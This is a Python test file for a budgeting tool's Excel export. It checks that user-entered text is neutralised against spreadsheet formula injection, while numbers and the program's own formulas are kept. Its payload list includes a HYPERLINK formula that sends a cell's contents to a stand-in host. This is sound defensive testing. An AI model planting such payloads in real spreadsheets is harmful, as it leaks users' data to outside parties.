"""core.io.excel: text typed by people is a text cell, never a formula (OWASP formula injection); numbers stay
numbers; only formulas the program built (Formel) survive saving."""

from __future__ import annotations

from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from core.budget.kalkulation import SEED_BEISPIEL
from core.io.excel import Formel, entschaerfe, schreibe, schreibe_in, speichere
from core.io.kalkulation_export import Kopf, schreibe_xlsx

# OWASP CSV injection: cells starting with these characters are interpreted by spreadsheet programs.
ANGRIFFE = ["=1+1", '=HYPERLINK("http://x.example/?d="&A1,"klick")', "+1", "-1+2", "@SUM(1,2)", "\t=1", "\r=1"]


@pytest.mark.parametrize("text", ANGRIFFE)
def test_text_bleibt_text(tmp_path: Path, text: str) -> None:
    mappe = Workbook()
    blatt = mappe.active
    assert blatt is not None
    schreibe_in(blatt, 1, 1, text)
    blatt["B1"] = text  # a writer that forgot the helper: speichere catches it
    speichere(mappe, tmp_path / "a.xlsx")
    zurueck = load_workbook(tmp_path / "a.xlsx").active
    assert zurueck is not None
    for zelle in (zurueck["A1"], zurueck["B1"]):
        # (XML reads a carriage return back as a line feed)
        assert zelle.data_type == "s" and zelle.value == text.replace("\r", "\n") and zelle.quotePrefix


def test_zahlen_bleiben_zahlen_und_gewollte_formeln_bleiben(tmp_path: Path) -> None:
    mappe = Workbook()
    blatt = mappe.active
    assert blatt is not None
    schreibe_in(blatt, 1, 1, Decimal("7.50"))
    schreibe_in(blatt, 2, 1, 3)
    schreibe_in(blatt, 3, 1, Formel("=SUM(A1:A2)"))
    schreibe_in(blatt, 4, 1, date(2026, 3, 1))
    schreibe_in(blatt, 5, 1, "Name\x00mit\x1bSteuerzeichen")  # openpyxl would raise IllegalCharacterError
    assert entschaerfe(mappe) == 0
    speichere(mappe, tmp_path / "b.xlsx")
    zurueck = load_workbook(tmp_path / "b.xlsx").active
    assert zurueck is not None
    assert zurueck["A1"].value == 7.5 and zurueck["A1"].data_type == "n"
    assert zurueck["A2"].value == 3
    assert zurueck["A3"].value == "=SUM(A1:A2)" and zurueck["A3"].data_type == "f"
    assert zurueck["A5"].value == "Name\ufffdmit\ufffdSteuerzeichen"


def test_formel_ueberschrieben_mit_text_wird_text() -> None:
    mappe = Workbook()
    blatt = mappe.active
    assert blatt is not None
    schreibe(blatt["A1"], Formel("=1+1"))
    schreibe(blatt["A1"], "=2+2")  # the cell now holds a name: the earlier permission is gone
    assert entschaerfe(mappe) == 0 and blatt["A1"].data_type == "s"


def test_kalkulation_mit_feindlichem_namen_hat_nur_eigene_formeln(tmp_path: Path) -> None:
    harmlos = schreibe_xlsx(
        SEED_BEISPIEL, tmp_path / "harmlos.xlsx", Kopf("Antrag 2027", date(2026, 3, 1), notiz="eine Notiz")
    )
    feindlich = schreibe_xlsx(
        SEED_BEISPIEL, tmp_path / "feindlich.xlsx", Kopf("=1+1", date(2026, 3, 1), notiz=ANGRIFFE[1])
    )

    def formeln(pfad: Path) -> list[tuple[str, str]]:
        blatt = load_workbook(pfad).active
        assert blatt is not None
        return [(z.coordinate, str(z.value)) for reihe in blatt.iter_rows() for z in reihe if z.data_type == "f"]

    eigene = formeln(harmlos)
    assert len(eigene) >= 17  # every computed line stays a live formula
    assert formeln(feindlich) == eigene
    blatt = load_workbook(feindlich).active
    assert blatt is not None
    assert any(z.value == ANGRIFFE[1] and z.quotePrefix for reihe in blatt.iter_rows() for z in reihe)
